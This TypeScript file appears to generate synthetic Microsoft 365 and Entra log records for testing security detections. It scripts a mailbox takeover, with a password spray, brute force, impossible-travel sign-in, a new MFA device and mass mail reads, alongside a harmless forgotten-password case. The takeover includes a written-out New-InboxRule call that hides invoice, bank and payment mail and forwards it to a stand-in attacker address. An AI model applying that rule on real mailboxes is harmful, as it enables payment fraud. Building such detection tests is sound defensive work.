import { MINUTE_MS, SECOND_MS } from '@casbah/domain/time-units';
import { type Client, officeClient, PLACES } from '../client.ts';
import { PARTNERS } from '../documents.ts';
import { directoryRecord } from '../entra-audit.ts';
import { signInRecord } from '../entra-sign-in.ts';
import { cmdlet, readMail, sentMail } from '../exchange.ts';
import { emailOf } from '../ids.ts';
import type { Plot, Scene } from './story.ts';

const ATTACKER: Client = {
  address: '198.51.100.23',
  place: PLACES.curitiba,
  userAgent:
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36',
};

/** Mailbox taken over from outside, used for false bank details. */
export const accountTakeover: Plot = {
  id: 'account-takeover',
  title: 'A mailbox is taken over and asks customers for money',
  told: 'A password is tried on 60 accounts at night, then a hundred on one account in Supply chain. Next day someone signs in to it from Brazil while its owner works in Casablanca, adds a second factor, hides replies with a rule, reads mail and sends false bank details. IT resets the password the day after.',
  act(stage) {
    const victim = stage.cast('Supply chain', 'squid', 1);
    const people = [victim.account];
    const attacker = { actor: victim, client: ATTACKER };
    const day = stage.days - 12;
    const night = stage.at(day - 1, 2.2);
    const targets = stage.people.filter(({ joined }) => joined === 0).slice(20, 80);
    const spray: Scene = {
      detects: 'password_spray',
      people: targets.map(({ account }) => account),
      records: targets.flatMap((actor, index) =>
        [0, 1].map((round) =>
          signInRecord({
            time: night + (round * 70 + index) * 31 * SECOND_MS,
            actor,
            client: { ...ATTACKER, address: `198.51.100.${20 + (index % 4)}` },
            app: 'outlook',
            error: 50_126,
          }),
        ),
      ),
    };
    const guessed = night + 90 * MINUTE_MS;
    const guesses: Scene = {
      detects: 'brute_force_sign_in',
      people,
      records: Array.from({ length: 100 }, (_, index) =>
        signInRecord({
          ...attacker,
          time: guessed + index * 12 * SECOND_MS,
          app: 'outlook',
          error: index % 10 === 9 ? 50_053 : 50_126,
        }),
      ),
    };
    const entry = stage.atWork(day, 13.4);
    const atOffice = signInRecord({
      time: entry - 25 * MINUTE_MS,
      actor: victim,
      client: officeClient(victim),
      app: 'outlook',
    });
    const inBrazil = signInRecord({
      ...attacker,
      time: entry,
      app: 'outlook',
      risks: ['unfamiliarFeatures'],
    });
    const method = directoryRecord({
      ...attacker,
      time: entry + 4 * MINUTE_MS,
      operation: 'Update user.',
      target: victim,
      changes: [
        {
          name: 'StrongAuthenticationPhoneAppDetail',
          before: '[]',
          after: '[{"DeviceName":"SM-A156B","PhoneAppVersion":"6.2510.7"}]',
        },
      ],
    });
    const rule = cmdlet(
      'New-InboxRule',
      { ...attacker, time: entry + 9 * MINUTE_MS },
      `${emailOf(victim)}\\..`,
      {
        Name: '..',
        SubjectOrBodyContainsWords: 'invoice;bank;payment',
        MoveToFolder: 'RSS Feeds',
        ForwardTo: 'orders.desk@mail-collect.example',
        MarkAsRead: 'True',
        StopProcessingRules: 'True',
      },
    );
    const read = Array.from({ length: 140 }, (_, index) =>
      readMail({
        ...attacker,
        time: entry + 12 * MINUTE_MS + index * 7 * SECOND_MS,
        subject: `Invoice ${4_200 + index}`,
      }),
    );
    const sent = Array.from({ length: 18 }, (_, index) =>
      sentMail(
        {
          ...attacker,
          time: entry + 52 * MINUTE_MS + index * 40 * SECOND_MS,
          subject: `New bank details for ${PARTNERS[index % PARTNERS.length] ?? ''}`,
        },
        22_000,
      ),
    );
    const helper = stage.cast('IT', 'squid', 2);
    const reset = directoryRecord({
      time: stage.atWork(day + 1, 8.1),
      actor: helper,
      client: officeClient(helper),
      operation: 'Reset user password.',
      target: victim,
      changes: [{ name: 'Included Updated Properties', after: '' }],
    });
    return [
      spray,
      guesses,
      { detects: 'infeasible_travel', people, records: [atOffice, inBrazil] },
      { detects: 'new_mfa_method', people, records: [method] },
      { detects: 'mail_forwarding_rule', people, records: [rule] },
      { detects: 'bulk_mail_access', people, records: read },
      { detects: 'fraudulent_mail', people, records: sent },
      { people, records: [reset] },
    ];
  },
};

/** Someone who forgot their password, which looks like an attack on one account. */
export const forgottenPassword: Plot = {
  id: 'forgotten-password',
  title: 'Someone has forgotten their password',
  told: 'After a vacation, a person in Sales enters a wrong password six times in the office, resets it and signs in. This is harmless.',
  act(stage) {
    const person = stage.cast('Sales', 'squid', 20);
    const client = officeClient(person);
    const start = stage.atWork(stage.days - 10, 8.2);
    const attempt = (minutes: number, error?: 50_126) =>
      signInRecord({
        time: start + minutes * MINUTE_MS,
        actor: person,
        client,
        app: 'outlook',
        ...(error === undefined ? {} : { error }),
      });
    const reset = directoryRecord({
      time: start + 7 * MINUTE_MS,
      actor: person,
      client,
      operation: 'Reset password (self-service).',
      target: person,
      changes: [],
    });
    return [
      {
        people: [person.account],
        records: [...[0, 1, 2, 3, 4, 5].map((minute) => attempt(minute, 50_126)), reset, attempt(9)],
      },
    ];
  },
};
